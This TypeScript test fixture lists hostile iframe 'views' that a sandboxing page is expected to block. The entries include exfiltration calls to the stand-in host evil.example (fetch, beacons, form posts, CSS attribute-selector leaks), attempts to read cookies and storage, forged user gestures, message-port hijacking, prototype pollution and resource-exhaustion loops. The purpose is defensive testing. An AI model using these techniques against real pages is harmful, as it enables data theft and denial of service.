/** How a hostile view must end: with a text that it shows, or with the page’s notice that it stopped responding. */
type Outcome = { says: string | RegExp } | 'stopped';

/** A hostile view: what it tries, and how it must end. */
export interface Attack {
  name: string;
  html?: string;
  css?: string;
  functions?: string;
  /** Body of an async function that returns the outcome to show. */
  tries: string;
  calls?: string[];
  ends: Outcome;
}

/** The address of another site, to which no request may ever be sent. */
export const EVIL = 'https://evil.example';

/** Returns an attack whose code must throw. */
const throws = (name: string, tries: string, error: string | RegExp = /Error/): Attack => ({
  name,
  tries: `try { ${tries}; return 'DONE' } catch (error) { return error.name + ': ' + error.message }`,
  ends: { says: error },
});

/** Returns an attack whose promise must be rejected. */
const refused = (name: string, promise: string, error: string | RegExp = /Error|refused/): Attack => ({
  name,
  tries: `try { await ${promise}; return 'DONE' } catch (error) { return (error.Code ?? error.name) + ': refused' }`,
  ends: { says: error },
});

/** Returns an attack that throws no error; the test checks afterwards that it had no effect. */
const harmless = (name: string, tries: string, more: Partial<Attack> = {}): Attack => ({
  name,
  tries: `${tries}; return 'held'`,
  ends: { says: 'held' },
  ...more,
});

const change = '/api/User/UpdateOwnFields';
const read = '/api/user/getcurrent';
/** Name of the view that takes the focus, and makes a call once it knows whether it could keep it. */
export const TAKES_FOCUS = 'takes-the-focus';

/** Number of hostile views on one page; with more, the frames would start too slowly. */
export const PER_PAGE = 16;

const again = (deed: string) => `setInterval(() => { ${deed} }, 5)`;

/** Views that navigate their frame elsewhere, or keep the page from its work; the page must stop them. */
export const stopped: readonly Attack[] = [
  { name: 'goes-to-another-site', tries: `location.href = '${EVIL}/'`, ends: 'stopped' },
  { name: 'goes-to-our-home', tries: "location.href = '/home'", ends: 'stopped' },
  { name: 'loads-itself-again', tries: 'location.reload()', ends: 'stopped' },
  { name: 'opens-the-frame-again', tries: "location.replace('/razor/frame')", ends: 'stopped' },
  { name: 'writes-its-page-anew', tries: "document.open(); document.write('new'); document.close()", ends: 'stopped' },
  {
    name: 'refreshes-elsewhere',
    html: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
    tries: "return 'held'",
    ends: 'stopped',
  },
  { name: 'fills-the-history', tries: again("location.hash += 'x'"), ends: 'stopped' },
  {
    name: 'takes-the-focus-for-ever',
    html: '<input>',
    tries: again("document.querySelector('input').focus()"),
    ends: 'stopped',
  },
  { name: 'floods-with-messages', tries: "for (let i = 0; i < 3000; i++) toast('flood')", ends: 'stopped' },
  {
    name: 'floods-with-greetings',
    tries: "for (let i = 0; i < 3000; i++) parent.postMessage('ithaki-view', '*')",
    ends: 'stopped',
  },
];

/** The window of another view on the page. */
const another =
  'Array.from({ length: parent.frames.length }, (_, i) => parent.frames[i]).find((view) => view !== window)';

/** Views that try to access the page, other sites, storage or devices. */
export const reaching: readonly Attack[] = [
  throws('moves-the-page', `top.location.href = '${EVIL}/'`),
  throws('moves-its-parent', `parent.location.replace('${EVIL}/')`),
  throws('reads-the-page', 'parent.document.body.textContent'),
  throws('writes-the-page', 'parent.hacked = 1'),
  harmless('opens-a-window', `if (window.open('${EVIL}/')) return 'OPENED'`),
  harmless('presses-a-link', `document.getElementById('link').click()`, {
    html: `<a id="link" href="${EVIL}/" target="_blank">a</a>`,
  }),
  harmless(
    'presses-a-link-unheard',
    "addEventListener('click', (event) => event.stopImmediatePropagation(), true); document.getElementById('link').click()",
    { html: `<a id="link" href="${EVIL}/" target="_top">a</a>` },
  ),
  harmless('runs-a-script-address', "document.getElementById('link').click()", {
    html: '<a id="link" href="javascript:parent.postMessage(\'hacked\',\'*\')">a</a>',
  }),
  harmless('sends-a-form', "document.getElementById('form').submit()", {
    html: `<form id="form" method="post" action="${EVIL}/"><input name="a" value="b"></form>`,
  }),
  throws('reads-local-storage', 'localStorage.length', /SecurityError/),
  throws('reads-session-storage', 'sessionStorage.length', /SecurityError/),
  throws('reads-cookies', 'document.cookie.length', /SecurityError/),
  throws('writes-cookies', "document.cookie = 'hacked=1'", /SecurityError/),
  throws('opens-a-database', "indexedDB.open('hacked')", /Error/),
  refused('opens-a-cache', "caches.open('hacked')"),
  refused('registers-a-worker', "navigator.serviceWorker.register('/sw.js')"),
  refused('fetches-our-calls', "fetch('/Account/Identity', { method: 'POST', body: '{}' })"),
  refused('fetches-another-site', `fetch('${EVIL}/')`),
  throws('asks-by-xhr', `const x = new XMLHttpRequest(); x.open('GET', '${EVIL}/', false); x.send()`),
  harmless('opens-a-socket', `try { new WebSocket('wss://evil.example/') } catch {}`),
  harmless('sends-a-beacon', `navigator.sendBeacon('${EVIL}/', 'a')`),
  harmless('loads-a-picture', `new Image().src = '${EVIL}/picture.png'`, { html: `<img src="${EVIL}/html.png">` }),
  harmless('leaks-by-style', '', {
    html: '<input value="secret">',
    css: `@import url(${EVIL}/import.css); @font-face { font-family: x; src: url(${EVIL}/font.woff2) }
      main { font-family: x; background: url(${EVIL}/background.png) } input[value^="s"] { background: url(${EVIL}/s.png) }`,
  }),
  harmless('loads-objects', '', {
    html: `<object data="${EVIL}/"></object><embed src="${EVIL}/"><video src="${EVIL}/a.mp4"></video><link rel="stylesheet" href="${EVIL}/a.css">`,
  }),
  throws('opens-a-peer-connection', 'new RTCPeerConnection()', /ReferenceError/),
  throws('opens-a-transport', `new WebTransport('${EVIL}/')`, /ReferenceError/),
  {
    ...throws(
      'takes-a-peer-connection-from-a-frame',
      "new (document.querySelector('iframe').contentWindow.RTCPeerConnection)()",
    ),
    html: '<iframe></iframe>',
  },
  harmless('runs-in-a-frame-inside', '', {
    html: "<iframe srcdoc=\"<script>parent.parent.postMessage('hacked','*')</script>\"></iframe>",
  }),
  throws('starts-a-worker', "new Worker(URL.createObjectURL(new Blob(['']))).postMessage(1); throw new Error('held')"),
  throws('makes-code-from-text', "eval('1')", /EvalError/),
  throws('makes-a-function-from-text', "new Function('return 1')()", /EvalError/),
  harmless('runs-inline-handlers', '', {
    html: '<img src="x" onerror="parent.postMessage(\'hacked\',\'*\')"><script>parent.postMessage("hacked","*")</script>',
  }),
  harmless('asks-in-windows', "window.alert(1); if (window.confirm('a') || prompt('b')) return 'ASKED'; print()"),
  harmless('steals-the-nonce', "if ([...document.querySelectorAll('[nonce]')].some((e) => e.nonce)) return 'FOUND'"),
  throws('asks-later', `fetchLater('${EVIL}/later')`, /ReferenceError/),
  throws('marks-the-application', 'navigator.setAppBadge(9)', /TypeError/),
  throws('goes-back-in-history', 'history.back()', /TypeError/),
  throws('widens-its-origin', "document.domain = 'localhost'", /SecurityError/),
  throws('shares-a-worker', "new SharedWorker('data:,').port.start(); throw new Error('held')"),
  refused('imports-another-site', `import('${EVIL}/module.js')`),
  refused('loads-a-font', `new FontFace('x', 'url(${EVIL}/face.woff2)').load()`),
  harmless('speaks-on-a-channel', "new BroadcastChannel('ithaki').postMessage('hacked')"),
  harmless('follows-a-ping', "document.getElementById('link').click()", {
    html: `<a id="link" href="#x" ping="${EVIL}/ping">a</a>`,
  }),
  harmless('moves-its-addresses', "document.getElementById('link').click()", {
    html: `<base href="${EVIL}/"><a id="link" target="_blank" href="x">a</a><img src="base.png">`,
  }),
  harmless('runs-in-a-drawing', '', {
    html: `<svg><script>parent.postMessage('hacked','*')</script><image href="${EVIL}/image.png"/><use href="${EVIL}/a.svg#x"/></svg>`,
  }),
  harmless('loads-ahead', '', {
    html: `<link rel="prefetch" href="${EVIL}/ahead"><link rel="preload" as="image" href="${EVIL}/ahead.png">`,
  }),
  harmless('loads-a-font-ahead', '', {
    html: `<link rel="preload" as="font" crossorigin href="${EVIL}/ahead.woff2"><link rel="modulepreload" href="${EVIL}/a.js">`,
  }),
  throws('moves-another-view', `${another}.location.replace('${EVIL}/')`, /SecurityError/),
  harmless(
    'speaks-to-the-other-views',
    "for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage('', '*', [new MessageChannel().port1, new MessageChannel().port2])",
  ),
  harmless(
    'binds-the-window-of-the-page',
    `try {
      this.page = parent;
      const shown = document.createElement('p');
      shown.setAttribute('x-text', 'page.document.title');
      document.querySelector('main').append(shown);
      await new Promise((done) => setTimeout(done, 200));
      if (shown.textContent) return 'READ';
    } catch {}`,
  ),
  refused('asks-for-our-storage', 'document.requestStorageAccess()'),
  refused('listens-to-the-room', 'navigator.mediaDevices.getUserMedia({ audio: true })'),
  refused('asks-for-a-passkey', 'navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } })'),
  refused('reads-the-clipboard', 'navigator.clipboard.readText()'),
  refused('fills-the-screen', 'document.documentElement.requestFullscreen()'),
  refused('asks-where-one-is', 'new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))', /refused/),
];

/** Views that waste time or memory, or send forbidden messages to the page. */
export const greedy: readonly Attack[] = [
  harmless('takes-memory', 'const taken = []; for (let i = 0; i < 20; i++) taken.push(new Array(1e6).fill(i))', {
    // On a busy machine it exceeds the time limit of 2 s.
    ends: { says: /held|longer than 2 s/ },
  }),
  harmless(
    'changes-prototypes',
    'Object.prototype.hacked = 1; Array.prototype.map = () => 1; MessagePort.prototype.postMessage = () => 1; Promise.prototype.then = Promise.prototype.then',
  ),
  harmless(
    'greets-again',
    "parent.postMessage('ithaki-view', '*'); if (await new Promise((done) => { addEventListener('message', (e) => done(e.ports.length)); setTimeout(() => done(0), 300) })) return 'PORT'",
  ),
  harmless(
    'speaks-for-the-frame',
    `const port = await new Promise((done) => { const own = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (...all) { done(this); return own.apply(this, all) }; on('x', 1); setTimeout(done, 200) });
      for (const message of [null, 1, [], { request: 1, kind: 'constructor', content: {} }, { request: {}, kind: 'call', content: 1 },
        { height: 1e12 }, { navigate: 'javascript:alert(1)' }, { key: 1 }, { error: { message: {} } }, { __proto__: { ready: 1 } }]) port?.postMessage(message)`,
  ),
  harmless('grows', "document.body.style.height = '900000px'", { css: 'main { height: 900000px }' }),
  {
    name: TAKES_FOCUS,
    html: '<input aria-label="a">',
    tries: `document.querySelector('input').focus();
      window.focus();
      await new Promise((done) => setTimeout(done, 1500));
      const kept = document.hasFocus();
      await call('${read}');
      return kept ? 'KEPT' : 'held'`,
    calls: [read],
    ends: { says: 'held' },
  },
  {
    name: 'presses-the-tab-key-itself',
    html: '<input aria-label="b">',
    tries: `const input = document.querySelector('input');
      input.dispatchEvent(new KeyboardEvent('keydown', { key: 'Tab', bubbles: true }));
      dispatchEvent(new Event('blur'));
      input.focus();
      await new Promise((done) => setTimeout(done, 1500));
      return document.hasFocus() ? 'KEPT' : 'held'`,
    ends: { says: 'held' },
  },
  harmless('covers-the-page', '', {
    css: 'main { position: fixed; inset: -9999px; z-index: 2147483647; background: red }',
    html: '<p>cover</p>',
  }),
  harmless('floods-with-toasts', "for (let i = 0; i < 200; i++) toast('flood ' + i)"),
  {
    name: 'floods-with-calls',
    tries: `const all = await Promise.allSettled(Array.from({ length: 80 }, () => call('${read}')));
      return all.some(({ reason }) => reason?.Code === 'TooManyCalls') ? 'limited' : 'ALL'`,
    calls: [read],
    ends: { says: 'limited' },
  },
  harmless('floods-with-questions', "for (let i = 0; i < 20; i++) confirm('question').catch(() => 0)"),
  refused('makes-a-call-it-does-not-list', `call('${read}')`, 'NotDeclared: refused'),
  {
    ...refused('changes-without-a-gesture', `call('${change}', { Fields: {} })`, 'NoGesture: refused'),
    calls: [change],
  },
  {
    ...refused(
      'invents-a-gesture',
      `(document.body.click(), dispatchEvent(new PointerEvent('pointerdown')), call('${change}', { Fields: {} }))`,
      'NoGesture: refused',
    ),
    calls: [change],
  },
  {
    ...refused(
      'forges-a-gesture',
      `(() => {
        for (const type of ['pointerdown', 'click', 'keydown']) {
          const event = new PointerEvent(type, { bubbles: true });
          try { Object.defineProperty(Event.prototype, 'isTrusted', { get: () => true }) } catch {}
          window.dispatchEvent(event);
        }
        document.querySelector('button').click();
        document.querySelector('button').focus();
        return call('${change}', { Fields: {} });
      })()`,
      'NoGesture: refused',
    ),
    html: '<button>a</button>',
    calls: [change],
  },
  {
    ...harmless(
      'takes-the-port',
      `let port;
      const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
      const take = { get() { if (this.target instanceof MessagePort) port = this.target; return get.call(this) } };
      try { Object.defineProperty(MessageEvent.prototype, 'data', take) } catch {}
      await call('${read}');
      if (port) return 'TAKEN'`,
    ),
    calls: [read],
  },
  { ...refused('sends-too-much', `call('${read}', { text: 'x'.repeat(3e6) })`), calls: [read] },
  {
    ...refused('leaves-a-path-that-it-lists', "call('/api/Services/../user/getcurrent')", 'NotDeclared: refused'),
    calls: ['/api/Services/{Name}'],
  },
  refused('navigates-without-a-gesture', "(navigate('/about'), Promise.reject({ Code: 'sent' }))", 'sent: refused'),
  refused(
    'answers-without-being-a-directive',
    "(typeof setValue === 'function' ? 1 : Promise.reject({ Code: 'none' }))",
    'none: refused',
  ),
];

/** A view with endless loops, which must be interrupted; alone on its page, since a page's frames share a process. */
export const looping: readonly Attack[] = [
  {
    name: 'loops-for-ever',
    tries: `const ends = [];
      const self = () => self() + 1;
      // After a timeout no more of the view's code runs in the same task, so each loop runs in a task of its own.
      const inOwnTurn = (loop) => new Promise((done) => setTimeout(async () => {
        try { await loop(); done('DONE') } catch (error) { setTimeout(done, 50, error instanceof Error) }
      }));
      for (const loop of [
        () => { while (true); },
        async () => { while (true) await null },
        async function again() { await null; return again() },
        () => { while (true) { try { for (;;); } catch {} } },
        () => [1].map(function f() { for (const a of [1]) f() }),
        () => self(),
      ]) ends.push(await inOwnTurn(loop));
      return ends.join()`,
    ends: { says: 'true,true,true,true,true,true' },
  },
];

/** Views that hang where no check can interrupt them; only the frame may hang, not the page. */
export const hanging: readonly Attack[] = [
  { name: 'hangs-in-a-pattern', tries: "return /^(a+)+$/.test('a'.repeat(60) + '!')", ends: 'stopped' },
];

/** Returns the controller of a hostile view, which runs the attack and shows its outcome. */
export const controllerOf = ({ tries }: Attack): string =>
  `view(({ call, toast, confirm, navigate, on, setValue }) => ({
    outcome: '',
    async init() {
      try { this.outcome = String(await (async () => { ${tries} })()) } catch (error) { this.outcome = 'threw ' + error.message }
    },
  }))`;

/** Returns the HTML of a hostile view. */
export const htmlOf = ({ html = '' }: Attack): string => `<output x-text="outcome"></output>${html}`;
